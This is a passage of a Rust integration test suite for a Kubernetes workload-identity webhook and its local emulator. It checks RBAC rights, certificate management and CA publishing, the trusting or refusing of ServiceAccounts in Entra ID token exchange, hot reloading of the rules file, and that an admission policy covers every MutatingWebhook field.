    kubectl.wait_can_i(WEBHOOK_USER, "create", "secrets", SYSTEM_NAMESPACE, false);
    let mut mounted = webhook::Webhook::start(&[&namespace], &env, &[]);
    mounted.wait_ready().await;
    no_refusal(&mounted);
    drop(mounted);

    kubectl.apply_overlay("cluster-wide");
    kubectl.wait_can_i(WEBHOOK_USER, "create", "secrets", SYSTEM_NAMESPACE, true);
    kubectl.run(
        &[
            "-n",
            SYSTEM_NAMESPACE,
            "delete",
            "secret",
            "workload-identity-webhook-tls",
            "--ignore-not-found",
        ],
        None,
    );
    let mut managed = webhook::Webhook::start(
        &["--manage-certificate", "--certificate-san=127.0.0.1", &namespace],
        &env,
        &[],
    );
    managed.wait_ready().await;
    let secret = kubectl.json(&["-n", SYSTEM_NAMESPACE, "get", "secret", "workload-identity-webhook-tls"]);
    let bundle = &secret["data"]["ca-bundle.crt"];
    assert!(bundle.is_string(), "{secret}");
    eventually("the caBundle to be published", || {
        let configuration = kubectl.json(&["get", "mutatingwebhookconfiguration", "workload-identity-webhook"]);
        configuration["webhooks"]
            .as_array()
            .unwrap()
            .iter()
            .all(|webhook| &webhook["clientConfig"]["caBundle"] == bundle)
    });
    no_refusal(&managed);
}

/// The admin kubeconfig, impersonating `user`, written into `dir`.
fn impersonating_kubeconfig(kubectl: &Kubectl, user: &str, dir: &std::path::Path) -> String {
    let mut config: Value = serde_json::from_str(&std::fs::read_to_string(&kubectl.kubeconfig).unwrap()).unwrap();
    config["users"][0]["user"]["as"] = json!(user);
    let path = dir.join("kubeconfig");
    std::fs::write(&path, config.to_string()).unwrap();
    path.to_str().unwrap().to_owned()
}

/// The local overlay: one small webhook replica without a PodDisruptionBudget, settings the webhook
/// accepts that point at the emulator, and the emulator (same image) with its Service, rules and
/// rights. Then `emulate` as the emulator's ServiceAccount (impersonated) with the overlay's
/// arguments: it reads the issuer's discovery and keys, makes its certificate for its Service
/// name and publishes the CA with only the shipped rights, serves Entra ID over HTTPS to a client
/// that trusts only that CA, grants the trusted ServiceAccount, refuses another, and applies an
/// edit of its rules file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_overlay_runs_the_emulator_with_exactly_the_shipped_rights() {
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    // From the shipped empty Secret, as on a first install.
    kubectl.run(
        &[
            "-n",
            SYSTEM_NAMESPACE,
            "delete",
            "secret",
            "workload-identity-emulator-tls",
            "--ignore-not-found",
        ],
        None,
    );
    let rendered = kubectl.apply_overlay("local");
    assert!(!rendered.contains("kind: PodDisruptionBudget"), "{rendered}");
    let get = |kind: &str, name: &str| kubectl.json(&["-n", SYSTEM_NAMESPACE, "get", kind, name]);
    let webhook = get("deployment", "workload-identity-webhook");
    assert_eq!(webhook["spec"]["replicas"], 1, "{webhook}");
    let emulator = get("deployment", "workload-identity-emulator");
    let (webhook_container, emulator_container) = (
        &webhook["spec"]["template"]["spec"]["containers"][0],
        &emulator["spec"]["template"]["spec"]["containers"][0],
    );
    assert_eq!(emulator_container["image"], webhook_container["image"]);
    for container in [webhook_container, emulator_container] {
        assert_eq!(container["imagePullPolicy"], "IfNotPresent", "{container}");
    }
    // The EKS Pod Identity agent: the same image on the node's network at the agent's address, in a
    // namespace whose Pod Security level admits a host-network Pod.
    let agent = get("daemonset", "workload-identity-emulator-pod-identity-agent");
    let agent_pod = &agent["spec"]["template"]["spec"];
    assert_eq!(agent_pod["hostNetwork"], true, "{agent}");
    assert_eq!(
        agent_pod["containers"][0]["image"], webhook_container["image"],
        "{agent}"
    );
    assert!(
        agent_pod["containers"][0]["args"]
            .as_array()
            .unwrap()
            .contains(&json!("--http-listen=169.254.170.23:80")),
        "{agent}"
    );
    let namespace = kubectl.json(&["get", "namespace", SYSTEM_NAMESPACE]);
    assert_eq!(
        namespace["metadata"]["labels"]["pod-security.kubernetes.io/enforce"], "privileged",
        "{namespace}"
    );
    let emulator_args: Vec<String> = serde_json::from_value(emulator_container["args"].clone()).unwrap();
    assert_eq!(emulator_container["command"], json!(["/workload-identity-emulator"]));
    assert!(
        emulator_args.contains(&"--manage-certificate".to_owned()),
        "{emulator_args:?}"
    );

    // The webhook takes the overlay's settings and injects the emulator's endpoints.
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.yaml");
    std::fs::write(
        &config,
        kubectl.ok(
            &[
                "-n",
                SYSTEM_NAMESPACE,
                "get",
                "configmap",
                "workload-identity-webhook",
                "-o",
                "yaml",
            ],
            None,
        ),
    )
    .unwrap();
    let object = dir.path().join("pod.json");
    let mut plain = pod("app", json!({}));
    plain["metadata"]["labels"] = json!({});
    plain["spec"]["serviceAccountName"] = json!("default");
    std::fs::write(&object, plain.to_string()).unwrap();
    let service_account = dir.path().join("sa.json");
    std::fs::write(
        &service_account,
        json!({"metadata": {"name": "default", "annotations": {
            "eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/app",
            "azure.workload.identity/client-id": "00000000-1111-2222-3333-444444444444",
            "azure.workload.identity/tenant-id": "11111111-2222-3333-4444-555555555555"}}})
        .to_string(),
    )
    .unwrap();
    let mutated = Command::new(env!("CARGO_BIN_EXE_workload-identity-webhook"))
        .arg("mutate")
        .arg("--object")
        .arg(&object)
        .arg("--service-account")
        .arg(&service_account)
        .arg("--config")
        .arg(&config)
        .args(["--namespace", "team-a"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&mutated.stdout);
    assert!(mutated.status.success(), "{}", String::from_utf8_lossy(&mutated.stderr));
    for expected in [
        format!(r#""value": "http://{EMULATOR_HOST}""#),
        format!(r#""value": "https://{EMULATOR_HOST}/""#),
    ] {
        assert!(stdout.contains(&expected), "{expected} not in {stdout}");
    }

    // `emulate` with exactly the emulator ServiceAccount's rights.
    kubectl.wait_can_i(
        EMULATOR_USER,
        "update",
        "secrets/workload-identity-emulator-tls",
        SYSTEM_NAMESPACE,
        true,
    );
    kubectl.wait_can_i(EMULATOR_USER, "create", "secrets", SYSTEM_NAMESPACE, false);
    let kubeconfig = impersonating_kubeconfig(&kubectl, EMULATOR_USER, dir.path());
    let namespace = unique("emulator");
    create_namespace(&kubectl, &namespace);
    for name in ["app", "other"] {
        kubectl.ok(&["-n", &namespace, "create", "serviceaccount", name], None);
    }
    let (tenant, client) = (
        "11111111-2222-3333-4444-555555555555",
        "00000000-1111-2222-3333-444444444444",
    );
    let rules = |trusted: &str| {
        format!(
            "azure: [{{tenantId: '{tenant}', clientId: '{client}', subjects: ['system:serviceaccount:{namespace}:{trusted}']}}]\n"
        )
    };
    let rules_file = dir.path().join("rules.yaml");
    std::fs::write(&rules_file, rules("app")).unwrap();
    let (https_port, http_port) = (webhook::free_port(), webhook::free_port());
    let log = dir.path().join("emulate.log");
    // The overlay's arguments, with the test's rules file and loopback ports.
    let local = ["--rules=", "--https-listen=", "--http-listen="];
    let mut child = Command::new(webhook::emulator_binary())
        .args(
            emulator_args
                .iter()
                .filter(|arg| !local.iter().any(|prefix| arg.starts_with(prefix))),
        )
        .arg(format!("--rules={}", rules_file.display()))
        .arg(format!("--https-listen=127.0.0.1:{https_port}"))
        .arg(format!("--http-listen=127.0.0.1:{http_port}"))
        .arg("--rules-reload-interval=100ms")
        .env("WIW_EMULATE_NAMESPACE", SYSTEM_NAMESPACE)
        .env("KUBECONFIG", &kubeconfig)
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let log_text = || std::fs::read_to_string(&log).unwrap();
    eventually("emulate to be ready", || {
        if let Some(status) = child.try_wait().unwrap() {
            panic!("emulate exited with {status}: {}", log_text());
        }
        log_text().contains("emulator ready")
    });
    let secret = get("secret", "workload-identity-emulator-tls");
    assert!(secret["data"]["tls.crt"].is_string(), "{secret}");
    let ca = get("configmap", "workload-identity-emulator-ca")["data"]["ca.crt"]
        .as_str()
        .unwrap_or_else(|| panic!("no CA published: {}", log_text()))
        .to_owned();

    // Entra ID over HTTPS at the Service name, trusting only the published CA.
    let https = reqwest::Client::builder()
        .use_rustls_tls()
        .tls_built_in_root_certs(false)
        .add_root_certificate(reqwest::Certificate::from_pem(ca.as_bytes()).unwrap())
        .resolve(EMULATOR_HOST, ([127, 0, 0, 1], https_port).into())
        .build()
        .unwrap();
    let entra = |service_account: &'static str| {
        let https = https.clone();
        let namespace = namespace.clone();
        let kubectl = &kubectl;
        async move {
            let token = kubectl.ok(
                &[
                    "-n",
                    &namespace,
                    "create",
                    "token",
                    service_account,
                    "--audience",
                    "api://AzureADTokenExchange",
                ],
                None,
            );
            let response = https
                .post(format!(
                    "https://{EMULATOR_HOST}:{https_port}/{tenant}/oauth2/v2.0/token"
                ))
                .form(&[
                    ("grant_type", "client_credentials"),
                    ("client_id", client),
                    (
                        "client_assertion_type",
                        "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
                    ),
                    ("client_assertion", token.trim()),
                    ("scope", "https://management.azure.com/.default"),
                ])
                .send()
                .await
                .unwrap_or_else(|err| panic!("HTTPS to the emulator: {err:?}"));
            response.status().as_u16()
        }
    };
    assert_eq!(entra("app").await, 200, "{}", log_text());
    assert_eq!(entra("other").await, 401, "{}", log_text());
    // An edit of the rules file applies without a restart.
    std::fs::write(&rules_file, rules("other")).unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while entra("other").await != 200 {
        assert!(
            Instant::now() < deadline,
            "the edited rules did not apply: {}",
            log_text()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let metrics = reqwest::get(format!("http://127.0.0.1:{http_port}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        metrics.contains(r#"decisions_total{service="entra-id",outcome="refusal",reason="untrusted_subject"}"#),
        "{metrics}"
    );
    let log = log_text();
    assert!(!log.to_lowercase().contains("forbidden"), "{log}");
    assert!(log.contains("CA published in its ConfigMap"), "{log}");
}

/// The caBundle-only policy compares every field a MutatingWebhook has in the running Kubernetes
/// version (its OpenAPI schema): a field a newer version adds fails this test on that version
/// (scripts/test-kubernetes-versions.sh) until the policy compares it too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cabundle_policy_compares_every_field_of_this_kubernetes_version() {
    let kubectl = Kubectl::new().await;
    let openapi: Value = serde_json::from_str(&kubectl.ok(
        &["get", "--raw", "/openapi/v3/apis/admissionregistration.k8s.io/v1"],
        None,
    ))
    .unwrap();
    let fields = |kind: &str| -> Vec<String> {
        let schema = &openapi["components"]["schemas"][format!("io.k8s.api.admissionregistration.v1.{kind}")];
        let properties = schema["properties"]
            .as_object()
            .unwrap_or_else(|| panic!("{kind}: {schema}"));
        properties.keys().cloned().collect()
    };
    let policy = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/manifests/base/admission-policies.yaml"
    ))
    .unwrap();
    let compared = |field: &str| policy.contains(&format!("o.?{field} == w.?{field}"));
    let mut missing = Vec::new();
    for field in fields("MutatingWebhook") {
        match field.as_str() {
            // The name identifies the webhook (`o.name == w.name`); the clientConfig is compared
            // field by field below.
            "name" => assert!(policy.contains("o.name == w.name")),
            "clientConfig" => {}
            _ if compared(&field) => {}
            _ => missing.push(field),
        }
    }
    for field in fields("WebhookClientConfig") {
        if field != "caBundle" && !policy.contains(&format!("o.clientConfig.?{field} == w.clientConfig.?{field}")) {
            missing.push(format!("clientConfig.{field}"));
        }
    }
    assert!(
        missing.is_empty(),
        "Kubernetes {} has MutatingWebhook fields the policy does not compare: {missing:?}",
        control_plane::kubernetes_version()
    );
}
